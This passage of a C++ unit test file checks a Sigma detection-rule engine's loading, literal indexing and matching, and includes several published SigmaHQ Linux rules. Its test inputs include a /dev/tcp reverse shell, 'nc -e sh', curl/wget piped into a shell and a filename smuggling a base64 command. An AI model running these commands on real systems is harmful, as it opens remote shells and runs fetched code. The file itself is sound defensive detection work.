    - car.2016-04-005
logsource:
    product: linux
    category: process_creation
detection:
    sel:
        CommandLine|contains: '/dev/tcp/'
    condition: sel
falsepositives:
    - Admin tests
fields:
    - CommandLine
level: critical
)"));
  const RuleInfo& r = *e.set.rules().front().first;
  EXPECT_EQ(r.id, "11111111-2222-3333-4444-555555555555");
  EXPECT_EQ(r.name, "vigil_reverse_shell");
  EXPECT_EQ(r.indicator_id(), "vigil_reverse_shell");
  EXPECT_EQ(r.title, "Reverse shell");
  EXPECT_EQ(r.status, "test");
  EXPECT_EQ(r.author, "Someone, Someone Else");
  EXPECT_EQ(r.reference, "https://example.org/first");
  EXPECT_EQ(r.file, "test.yml");
  EXPECT_EQ(r.attack, (std::vector<std::string>{"T1059.004", "T1027"}));
  EXPECT_EQ(r.falsepositives, std::vector<std::string>{"Admin tests"});
  EXPECT_EQ(r.severity, 90);
  EXPECT_EQ(r.category, Category::kProcessCreation);
}

TEST(SigmaLoad, DirectoryIsRecursiveSortedAndYamlOnly) {
  vigil::test::TempDir dir;
  std::filesystem::create_directories(dir.path() / "sub");
  auto write = [&](const std::string& name, const std::string& text) {
    std::ofstream(dir.path() / name) << text;
  };
  const std::string det = R"(
    sel:
        Comm: x
    condition: sel)";
  write("b.yml", rule(det, "process_creation", "b"));
  write("sub/a.yaml", rule(det, "process_creation", "a"));
  write("c.txt", rule(det, "process_creation", "c"));
  write("d.yml", "title: [");
  Engine e;
  e.set.add_directory(dir.path(), e.report);
  EXPECT_EQ(e.report.files, 3u);
  EXPECT_EQ(e.report.files_failed, 1u);
  EXPECT_EQ(e.report.rules_loaded, 2u);
  ASSERT_EQ(e.report.entries.size(), 3u);
  EXPECT_EQ(e.report.entries[0].rule, "b");
  EXPECT_EQ(e.report.entries[1].file, (dir.path() / "d.yml").string());
  EXPECT_EQ(e.report.entries[2].rule, "a");  // "sub/a.yaml" sorts after "d.yml"

  LoadReport report;
  const std::vector<std::filesystem::path> dirs = {dir.path(), dir.path() / "missing"};
  auto set = load_rules(dirs, report);
  EXPECT_EQ(set->size(), 2u);
  ASSERT_FALSE(report.entries.empty());
  EXPECT_EQ(report.entries.back().file, (dir.path() / "missing").string());
  EXPECT_EQ(report.entries.back().reason, "no such directory");
  EXPECT_EQ(report.files_failed, 2u);
}

// ---- matching, index, counters ----------------------------------------------

TEST(SigmaMatch, DisableById) {
  Engine e;
  const std::string det = R"(
    sel:
        CommandLine|contains: 'x'
    condition: sel)";
  ASSERT_TRUE(e.load(rule(det, "process_creation", "r1")));
  EXPECT_EQ(e.match(proc("x")), std::vector<std::string>{"r1"});
  e.set.disable("r1");
  EXPECT_TRUE(e.match(proc("x")).empty());
  e.set.disable("r2");  // before it is loaded
  ASSERT_TRUE(e.load(rule(det, "process_creation", "r2")));
  EXPECT_TRUE(e.match(proc("x")).empty());
}

TEST(SigmaMatch, OtherCategoriesDoNotMatch) {
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        Image|endswith: '/touch'
    condition: sel)")));
  EXPECT_TRUE(e.hits(proc("", "/usr/bin/touch")));
  EXPECT_FALSE(e.hits(file("/tmp/x")));  // a file event with the same Image
}

TEST(SigmaMatch, AlsoCategoryAndLoadOrder) {
  Engine e;
  const std::string det = R"(
    sel:
        TargetFilename|startswith: '/etc/'
    condition: sel)";
  ASSERT_TRUE(e.load(rule(det, "file_rename", "a")));
  ASSERT_TRUE(e.load(rule(det, "file_event", "b")));
  ASSERT_TRUE(e.load(rule(det, "file_rename", "c")));
  ASSERT_TRUE(e.load(rule(det, "file_delete", "d")));
  auto ev = file("/etc/passwd", Category::kFileRename);
  EXPECT_EQ(e.match(ev), (std::vector<std::string>{"a", "c"}));
  ev.also = Category::kFileEvent;
  EXPECT_EQ(e.match(ev), (std::vector<std::string>{"a", "b", "c"}));
}

TEST(SigmaMatch, RulesWithoutLiteralsStillRun) {
  // Nothing every match must contain: the index must not filter it out.
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    filter:
        Image|startswith: '/usr/'
    condition: not filter)")));
  EXPECT_TRUE(e.hits(proc("", "/tmp/x")));
  EXPECT_FALSE(e.hits(proc("", "/usr/bin/x")));
}

TEST(SigmaMatch, IndexFoldsCase) {
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        CommandLine|contains: 'MiMiKaTz'
    condition: sel)")));
  EXPECT_TRUE(e.hits(proc("./MIMIKATZ --dump")));
  EXPECT_TRUE(e.hits(proc("./mimikatz --dump")));
  EXPECT_FALSE(e.hits(proc("./mimikat --dump")));
}

TEST(SigmaMatch, ManyRulesShareTheIndex) {
  Engine e;
  for (int i = 0; i < 300; ++i) {
    const std::string id = "r" + std::to_string(i);
    ASSERT_TRUE(e.load(rule("\n    sel:\n        CommandLine|contains: 'tool" + std::to_string(i) +
                                "x'\n    condition: sel",
                            "process_creation", id)));
  }
  EXPECT_EQ(e.match(proc("run tool7x and tool250x")), (std::vector<std::string>{"r7", "r250"}));
  EXPECT_TRUE(e.match(proc("run tool7 and tool250")).empty());
}

TEST(SigmaMatch, Counters) {
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        Image|endswith: '/nc'
        CommandLine|contains: ' -e '
    condition: sel)")));
  EXPECT_TRUE(e.hits(proc("nc -e sh", "/bin/nc")));
  EXPECT_FALSE(e.hits(proc("ls -e x", "/bin/ls")));  // evaluated (" -e " is in it), no match
  EXPECT_FALSE(e.hits(proc("nc -l", "/bin/nc")));    // never evaluated: no " -e "
  const auto [info, counters] = e.set.rules().front();
  EXPECT_EQ(info->id, "r1");
  EXPECT_EQ(counters->evaluations.load(), 2u);
  EXPECT_EQ(counters->matches.load(), 1u);
  e.set.set_counters_enabled(false);
  EXPECT_TRUE(e.hits(proc("nc -e sh", "/bin/nc")));
  EXPECT_EQ(counters->evaluations.load(), 2u);
}

TEST(SigmaIndex, RegexRequiredLiterals) {
  using detail::regex_required_literals;
  using V = std::vector<std::string>;
  EXPECT_EQ(regex_required_literals(R"(\bchmod\s+\+x)"), V{"chmod"});
  EXPECT_EQ(regex_required_literals(R"((?i)/Tmp/[^/]+\.SH$)"), V{"/tmp/"});
  // Alternation: one literal per branch, at the top or in a required group.
  EXPECT_EQ(regex_required_literals("curl|wget"), (V{"curl", "wget"}));
  EXPECT_EQ(regex_required_literals(R"(\b(curl|wget|scp)\b)"), (V{"curl", "wget", "scp"}));
  EXPECT_EQ(regex_required_literals(R"((?:python|perl) -e)"), V{" -e"});  // the longest run first
  EXPECT_EQ(regex_required_literals(R"((?:python|perl)e)"), (V{"python", "perl"}));
  // A branch without a literal, or a short one: no set covers every match.
  EXPECT_TRUE(regex_required_literals("curl|.*").empty());
  EXPECT_TRUE(regex_required_literals("n|wget").empty());
  EXPECT_EQ(regex_required_literals("nc|wget"), (V{"nc", "wget"}));
  // Optional parts are not required.
  EXPECT_EQ(regex_required_literals("abcd?ef"), V{"abc"});
  EXPECT_EQ(regex_required_literals(R"(\.(pdf|jpe?g|7z)$)"), (V{"pdf", "jp", "7z"}));
  EXPECT_EQ(regex_required_literals("abc(def)?gh"), V{"abc"});
  EXPECT_EQ(regex_required_literals("x(defgh)*"), V{});
  EXPECT_EQ(regex_required_literals("ab{0,2}cdef"), V{"cdef"});
  EXPECT_EQ(regex_required_literals("abc+def"), V{"abc"});
  // Escapes: punctuation is literal, classes and hex are not.
  EXPECT_EQ(regex_required_literals(R"(\.ssh/id_)"), V{".ssh/id_"});
  EXPECT_EQ(regex_required_literals(R"(\x41\x42\x43\d)"), V{});
  EXPECT_EQ(regex_required_literals("[abc]def[x-z]"), V{"def"});
  EXPECT_EQ(regex_required_literals("[]ab|]cdef"), V{"cdef"});  // '|' inside a class
  EXPECT_TRUE(regex_required_literals(R"(\Qa|b\E)").empty());
  EXPECT_TRUE(regex_required_literals("").empty());
}

TEST(SigmaIndex, RegexRulesRunOnlyWhenTheirLiteralIsThere) {
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        CommandLine|re: '(?i)\b(curl|wget)\b.*\|\s*(ba)?sh\b'
    condition: sel)")));
  EXPECT_TRUE(e.hits(proc("CURL -s http://x/y | sh")));
  EXPECT_TRUE(e.hits(proc("wget -qO- http://x/y |bash")));
  EXPECT_FALSE(e.hits(proc("curl -o out http://x/y")));  // evaluated, no match
  EXPECT_FALSE(e.hits(proc("ls -la | sh")));             // never evaluated
  EXPECT_FALSE(e.hits(proc("make -j2")));                // never evaluated
  const auto [info, counters] = e.set.rules().front();
  EXPECT_EQ(counters->evaluations.load(), 3u);
  EXPECT_EQ(counters->matches.load(), 2u);
}

TEST(SigmaMatch, MatchingDoesNotAllocate) {
  Engine e;
  ASSERT_TRUE(e.load(rule(R"(
    sel_img:
        Image|endswith: ['/bash', '/sh']
    sel_cli:
        CommandLine|contains|all: ['-i', '/dev/tcp']
    sel_re:
        CommandLine|re: '[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}'
    sel_glob:
        CommandLine: '*bash*-i*'
    condition: 1 of sel_*)")));
  ASSERT_TRUE(e.load(rule(R"(
    sel:
        DestinationIp|cidr: ['10.0.0.0/8', 'fc00::/7']
        DestinationPort|gt: 1000
    condition: not sel)",
                          "network_connection", "net")));
  const RuleEvent events[] = {proc("bash -i >& /dev/tcp/10.0.0.1/4444", "/bin/bash"),
                              proc("ls -la", "/bin/ls"), net("10.1.1.1", "4444"),
                              net("8.8.8.8", "53")};
  std::vector<const RuleInfo*> out;
  out.reserve(8);
  for (const auto& ev : events) {
    e.set.match(ev, out);  // warm: RE2 builds its DFA states lazily
  }
  const auto before = vigil::test::allocations();
  std::size_t hits = 0;
  for (int i = 0; i < 100; ++i) {
    for (const auto& ev : events) {
      e.set.match(ev, out);
      hits += out.size();
    }
  }
  EXPECT_EQ(vigil::test::allocations() - before, 0u);
  EXPECT_EQ(hits, 200u);
}

// ---- SigmaHQ rules as published (Detection Rule License 1.1) ------------------

TEST(SigmaHQ, DecodeBase64EncodedText) {
  // github.com/SigmaHQ/sigma rules/linux/process_creation/proc_creation_lnx_base64_decode.yml
  Engine e;
  ASSERT_TRUE(e.load(R"(title: Decode Base64 Encoded Text
id: e2072cab-8c9a-459b-b63c-40ae79e27031
status: test
description: Detects usage of base64 utility to decode arbitrary base64-encoded text
references:
    - https://github.com/redcanaryco/atomic-red-team/blob/f339e7da7d05f6057fdfcdd3742bfcf365fee2a9/atomics/T1027/T1027.md
author: Daniil Yugoslavskiy, oscd.community
date: 2020-10-19
modified: 2021-11-27
tags:
    - attack.stealth
    - attack.t1027
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        Image|endswith: '/base64'
        CommandLine|contains: '-d' # Also covers "--decode"
    condition: selection
falsepositives:
    - Legitimate activities
level: low
)")) << e.reason();
  EXPECT_TRUE(e.hits(proc("base64 --decode", "/usr/bin/base64")));
  EXPECT_FALSE(e.hits(proc("base64 f", "/usr/bin/base64")));
  const RuleInfo& r = *e.set.rules().front().first;
  EXPECT_EQ(r.author, "Daniil Yugoslavskiy, oscd.community");
  EXPECT_EQ(r.attack, std::vector<std::string>{"T1027"});
  EXPECT_EQ(r.severity, 30);
}

TEST(SigmaHQ, AwkShellSpawn) {
  // github.com/SigmaHQ/sigma rules/linux/process_creation/proc_creation_lnx_awk_shell_spawn.yml
  Engine e;
  ASSERT_TRUE(e.load(R"(title: Suspicious Invocation of Shell via AWK - Linux
id: 8c1a5675-cb85-452f-a298-b01b22a51856
status: test
description: |
    Detects the execution of "awk" or it's sibling commands, to invoke a shell using the system() function.
    This behavior is commonly associated with attempts to execute arbitrary commands or escalate privileges, potentially leading to unauthorized access or further exploitation.
references:
    - https://gtfobins.github.io/gtfobins/awk/#shell
author: Li Ling, Andy Parkidomo, Robert Rakowski, Blake Hartstein (Bloomberg L.P.)
date: 2024-09-02
tags:
    - attack.execution
    - attack.t1059
logsource:
    category: process_creation
    product: linux
detection:
    selection_img:
        Image|endswith:
            - '/awk'
            - '/gawk'
            - '/mawk'
            - '/nawk'
        CommandLine|contains: 'BEGIN {system'
    selection_cli:
        CommandLine|contains:
            - '/bin/bash'
            - '/bin/dash'
            - '/bin/fish'
            - '/bin/sh'
            - '/bin/zsh'
    condition: all of selection_*
falsepositives:
    - Unknown
level: high
)")) << e.reason();
  EXPECT_TRUE(e.hits(proc("awk 'BEGIN {system(\"/bin/sh\")}'", "/usr/bin/gawk")));
  EXPECT_FALSE(e.hits(proc("awk 'BEGIN {print 1}' /bin/sh", "/usr/bin/gawk")));
  EXPECT_FALSE(e.hits(proc("x 'BEGIN {system(\"/bin/sh\")}'", "/usr/bin/perl")));
}

TEST(SigmaHQ, MalwareCallbackPorts) {
  // github.com/SigmaHQ/sigma
  // rules/linux/network_connection/net_connection_lnx_susp_malware_callback_port.yml
  Engine e;
  ASSERT_TRUE(e.load(R"(title: Potentially Suspicious Malware Callback Communication - Linux
id: dbfc7c98-04ab-4ab7-aa94-c74d22aa7376
status: test
description: |
    Detects programs that connect to known malware callback ports based on threat intelligence reports.
references:
    - https://www.mandiant.com/resources/blog/triton-actor-ttp-profile-custom-attack-tools-detections
author: hasselj
date: 2024-05-10
tags:
    - attack.persistence
    - attack.command-and-control
    - attack.t1571
logsource:
    category: network_connection
    product: linux
detection:
    selection:
        Initiated: 'true'
        DestinationPort:
            - 888
            - 999
            - 2200
            - 2222
            - 4000
            - 4444
            - 6789
            - 8531
            - 50501
            - 51820
    filter_main_local_ranges:
        DestinationIp|cidr:
            - '127.0.0.0/8'
            - '10.0.0.0/8'
            - '172.16.0.0/12'
            - '192.168.0.0/16'
            - '169.254.0.0/16'
            - '::1/128'         # IPv6 loopback
            - 'fe80::/10'       # IPv6 link-local addresses
            - 'fc00::/7'        # IPv6 private addresses
    condition: selection and not 1 of filter_main_*
falsepositives:
    - Unknown
level: high
)")) << e.reason();
  EXPECT_TRUE(e.hits(net("203.0.113.9", "4444")));
  EXPECT_TRUE(e.hits(net("2001:db8::1", "2222")));
  EXPECT_FALSE(e.hits(net("10.0.0.9", "4444")));
  EXPECT_FALSE(e.hits(net("fd00::9", "4444")));
  EXPECT_FALSE(e.hits(net("203.0.113.9", "443")));
}

TEST(SigmaHQ, FilenameWithEmbeddedBase64Command) {
  // github.com/SigmaHQ/sigma
  // rules/linux/file_event/file_event_lnx_susp_filename_with_embedded_base64_command.yml
  Engine e;
  ASSERT_TRUE(e.load(R"(title: Suspicious Filename with Embedded Base64 Commands
id: 179b3686-6271-4d87-807d-17d843a8af73
status: experimental
description: |
    Detects files with specially crafted filenames that embed Base64-encoded bash payloads designed to execute when processed by shell scripts.
references:
    - https://www.trellix.com/blogs/research/the-silent-fileless-threat-of-vshell/
author: '@kostastsale'
date: 2025-11-22
tags:
    - attack.execution
    - attack.stealth
    - attack.t1059.004
    - attack.t1027
logsource:
    product: linux
    category: file_event
detection:
    selection:
        TargetFilename|contains:
            - '{echo'
            - '{base64,-d}'
    condition: selection
falsepositives:
    - Legitimate files with similar naming patterns (very unlikely).
level: high
)")) << e.reason();
  EXPECT_TRUE(e.hits(file("/tmp/x$({echo,Y3VybA==}|{base64,-d}|bash)")));
  EXPECT_FALSE(e.hits(file("/tmp/echo.txt")));
  EXPECT_EQ(e.set.rules().front().first->attack, (std::vector<std::string>{"T1059.004", "T1027"}));
}

// ---- names --------------------------------------------------------------------

TEST(SigmaNames, RoundTrip) {
  for (std::size_t i = 0; i < kCategories; ++i) {
    const auto c = static_cast<Category>(i);
    EXPECT_EQ(category_from_string(to_string(c)), c);
  }
  for (std::size_t i = 0; i < kFields; ++i) {
    const auto f = static_cast<Field>(i);
    EXPECT_FALSE(to_string(f).empty());
    EXPECT_EQ(field_from_string(to_string(f)), f);
  }
  EXPECT_EQ(field_from_string("targetfilename"), Field::kTargetFilename);
  EXPECT_FALSE(field_from_string("Hashes").has_value());
  EXPECT_FALSE(category_from_string("dns_query").has_value());
}

}  // namespace
